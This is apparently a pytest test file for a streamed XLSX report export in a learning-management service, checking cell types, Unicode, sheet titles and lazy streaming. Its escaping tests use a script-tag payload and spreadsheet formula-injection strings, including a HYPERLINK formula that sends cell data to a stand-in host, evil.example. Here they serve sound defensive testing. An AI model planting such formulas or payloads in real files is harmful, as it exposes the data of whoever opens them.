"""The streamed XLSX export: what Excel (here openpyxl) reads back, and that rows are pulled only as bytes go out."""
from __future__ import annotations

import datetime as dt
import io
import logging
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal

import openpyxl
import pytest
from flask import Flask

from lms_service.reports import xlsxexport
from lms_service.reports.xlsxexport import XLSX_MIMETYPE, xlsx_response

HEADER = ["Name", "Score", "Passed", "Date", "Note"]


@pytest.fixture
def request_ctx(app):
    with app.test_request_context("/reports/export.xlsx"):
        yield


class CountingRows:
    """Rows made on demand, counting how many the export has pulled so far."""

    def __init__(self, count: int, width: int = 5):
        self.count = count
        self.width = width
        self.pulled = 0

    def __iter__(self) -> Iterator[list[object]]:
        for index in range(self.count):
            self.pulled += 1
            yield [f"Learner {index}", index, index % 2 == 0, dt.date(2024, 1, 1) + dt.timedelta(days=index % 365),
                   "å ä ö 🌱"][: self.width]


def export(header: Sequence[str], rows, sheet_title: str = "Report") -> bytes:
    return b"".join(xlsx_response("report.xlsx", header, rows, sheet_title=sheet_title).response)


def open_sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def values(data: bytes) -> list[tuple]:
    return list(open_sheet(data).iter_rows(values_only=True))


def test_response_is_a_streamed_no_store_attachment(request_ctx):
    response = xlsx_response("employees-556000-0000.xlsx", HEADER, [])

    assert response.mimetype == XLSX_MIMETYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == 'attachment; filename="employees-556000-0000.xlsx"'
    assert response.headers["Cache-Control"] == "no-store"
    assert response.is_streamed


def test_header_row_is_bold_and_frozen(request_ctx):
    sheet = open_sheet(export(HEADER, [["Anna", 0.8, True, dt.date(2024, 5, 1), "ok"]]))

    assert [cell.value for cell in sheet[1]] == HEADER
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"


def test_values_keep_their_types(request_ctx):
    row = ["Anna", 42, 0.875, True, False, dt.date(2024, 5, 1), dt.datetime(2024, 5, 1, 13, 45, 30), None,
           Decimal("12.50"), 12345678901234567890, float("nan"), ""]
    sheet = open_sheet(export([f"c{i}" for i in range(len(row))], [row]))
    cells = sheet[2]

    assert [cell.value for cell in cells] == [
        "Anna", 42, 0.875, True, False, dt.datetime(2024, 5, 1), dt.datetime(2024, 5, 1, 13, 45, 30), None,
        12.5, "12345678901234567890", "nan", None]
    assert [cell.data_type for cell in cells[:7]] == ["s", "n", "n", "b", "b", "d", "d"]
    assert cells[5].number_format == "yyyy-mm-dd"
    assert cells[6].number_format == "yyyy-mm-dd hh:mm:ss"


def test_aware_datetimes_are_written_in_utc(request_ctx):
    stockholm_summer = dt.timezone(dt.timedelta(hours=2))
    [_, (when,)] = values(export(["When"], [[dt.datetime(2024, 5, 1, 10, 0, tzinfo=stockholm_summer)]]))

    assert when == dt.datetime(2024, 5, 1, 8, 0)


def test_dates_excel_cannot_count_are_iso_text(request_ctx):
    [_, row] = values(export(["Old", "Older"], [[dt.date(1900, 2, 28), dt.datetime(1899, 1, 2, 3, 4, 5)]]))

    assert row == ("1900-02-28", "1899-01-02T03:04:05")


def test_empty_values_leave_no_cell(request_ctx):
    xml = sheet_xml(export(["A", "B", "C"], [[None, "", "x"]]))

    assert '<row r="2"><c r="C2" t="inlineStr">' in xml


def test_unicode_survives(request_ctx):
    texts = ["Åsa Öberg", "Bäckström", "🌱 grön omställning 🚗", "漢字", "  indented and trailing  ",
             "line one\nline two", "windows\r\nline", "tab\there"]
    [header, row] = values(export(["Namn på svenska: å ä ö", *texts[1:]], [texts]))

    assert header[0] == "Namn på svenska: å ä ö"
    assert list(row) == texts


def test_characters_illegal_in_xml_are_dropped(request_ctx):
    dirty = "a\x00b\x07c\x0bd\x1fe\ufffef\ud800g"
    [header, row] = values(export(["bad\x01header"], [[dirty]]))

    assert header == ("badheader",)
    assert row == ("abcdefg",)


def test_markup_is_escaped(request_ctx):
    text = '<script>alert("x")</script> & </t></is></c>'
    [_, row] = values(export(["Text"], [[text]]))

    assert row == (text,)


def test_formula_like_text_stays_literal_text(request_ctx):
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-1+2", "@cmd", "=1+1"]
    data = export(["Link", "Plus", "Minus", "At", "Sum"], [formulas])
    sheet = open_sheet(data)

    assert [cell.value for cell in sheet[2]] == formulas
    assert [cell.data_type for cell in sheet[2]] == ["s"] * len(formulas)
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert "'=HYPERLINK" not in xml


def test_excel_escape_lookalikes_are_escaped(request_ctx):
    # Excel would otherwise read "_x0041_" as "A".
    xml = sheet_xml(export(["Code"], [["ref_x0041_end"]]))

    assert "ref_x005F_x0041_end" in xml


def test_text_is_cut_at_excels_cell_limit(request_ctx):
    [_, (plain, emoji, short)] = values(export(["Plain", "Emoji", "Short"], [["x" * 40_000, "🌱" * 20_000, "ok"]]))

    assert plain == "x" * 32_767
    # An emoji is two UTF-16 units for Excel; half of one is never left behind.
    assert emoji == "🌱" * 16_383
    assert short == "ok"


@pytest.mark.parametrize(("title", "expected"), [
    ("Report", "Report"),
    ("Q1/Q2 [draft]: a*b? c\\d", "Q1_Q2 _draft__ a_b_ c_d"),
    ("Completion statistics per county and module", "Completion statistics per count"),
    ("'quoted'", "quoted"),
    ("", "Report"),
    ("???", "___"),
    ("History", "Report"),
    ("Läranderapport 🌱", "Läranderapport 🌱"),
])
def test_sheet_title_is_made_acceptable_to_excel(request_ctx, title, expected):
    sheet = open_sheet(export(["A"], [], sheet_title=title))

    assert sheet.title == expected
    assert len(sheet.title) <= 31


def test_no_rows_gives_a_header_only_sheet(request_ctx):
    assert values(export(HEADER, iter(()))) == [tuple(HEADER)]


def test_no_header_and_no_rows_is_still_a_workbook(request_ctx):
    sheet = open_sheet(export([], []))

    assert sheet.max_row == 1
    assert sheet["A1"].value is None


def test_wide_rows_get_column_letters_past_z(request_ctx):
    header = [f"col{i}" for i in range(30)]
    sheet = open_sheet(export(header, [list(range(30))]))

    assert sheet["AD1"].value == "col29"
    assert sheet["AD2"].value == 29


def test_archive_parts_are_well_formed_and_streamed(request_ctx):
    data = export(HEADER, CountingRows(50))

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert names[0] == "[Content_Types].xml"
        assert set(names) == {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                              "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"}
        for name in names:
            ET.fromstring(archive.read(name))
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
        # Sizes follow the data (nothing was rewound), and no ZIP64 header that Office might refuse.
        assert sheet.flag_bits & 0x08
        assert sheet.compress_type == zipfile.ZIP_DEFLATED
        assert sheet.extract_version == 20


def test_rows_are_pulled_lazily_while_streaming(request_ctx):
    rows = CountingRows(20_000)
    chunks = iter(xlsx_response("big.xlsx", HEADER, rows).response)
    received: list[bytes] = []
    pulled_when_received: list[int] = []

    for chunk in chunks:
        received.append(chunk)
        pulled_when_received.append(rows.pulled)

    assert pulled_when_received[0] == 0
    assert received[0].startswith(b"PK\x03\x04")
    # Worksheet data went out while most rows were still to come.
    assert any(0 < pulled < rows.count // 2 for pulled in pulled_when_received)
    assert pulled_when_received[-1] == rows.count
    # Batched, not a chunk per row, and no chunk anywhere near the size of the whole file.
    assert 3 < len(received) < rows.count // 50
    assert max(map(len, received)) < 256 * 1024

    sheet = open_sheet(b"".join(received))
    assert sheet.max_row == rows.count + 1
    assert [cell.value for cell in sheet[rows.count + 1]] == [
        "Learner 19999", 19_999, False, dt.datetime(2024, 1, 1) + dt.timedelta(days=19_999 % 365), "å ä ö 🌱"]


def test_a_closed_download_stops_pulling_rows(request_ctx):
    rows = CountingRows(100_000)
    chunks = iter(xlsx_response("big.xlsx", HEADER, rows).response)
    next(chunks)
    next(chunks)
    chunks.close()

    assert 0 < rows.pulled < rows.count


def test_rows_past_excels_limit_are_left_out_and_logged(request_ctx, monkeypatch, caplog):
    monkeypatch.setattr(xlsxexport, "_MAX_ROWS", 5)
    rows = CountingRows(100)

    with caplog.at_level(logging.WARNING, logger="lms_service.reports.xlsxexport"):
        data = export(HEADER, rows)

    assert len(values(data)) == 5
    assert rows.pulled < rows.count
    assert "report.xlsx stopped at row 5" in caplog.text


def test_a_sheet_too_big_for_a_plain_zip_member_is_cut_short(request_ctx, monkeypatch, caplog):
    monkeypatch.setattr(xlsxexport, "_MAX_SHEET_BYTES", 200_000)

    with caplog.at_level(logging.WARNING, logger="lms_service.reports.xlsxexport"):
        data = export(HEADER, CountingRows(20_000))

    assert 1 < len(values(data)) < 20_001
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size <= 200_000 + len(xlsxexport._SHEET_END)
    assert "does not fit in one Excel sheet" in caplog.text


def test_download_through_a_view():
    app = Flask(__name__)

    @app.get("/export")
    def download():
        return xlsx_response("learners.xlsx", ["Name", "Score"], ([f"L{i}", i] for i in range(3)), "Learners")

    response = app.test_client().get("/export")

    assert response.status_code == 200
    assert response.headers["Content-Type"] == XLSX_MIMETYPE
    sheet = open_sheet(response.data)
    assert sheet.title == "Learners"
    assert list(sheet.iter_rows(values_only=True)) == [("Name", "Score"), ("L0", 0), ("L1", 1), ("L2", 2)]
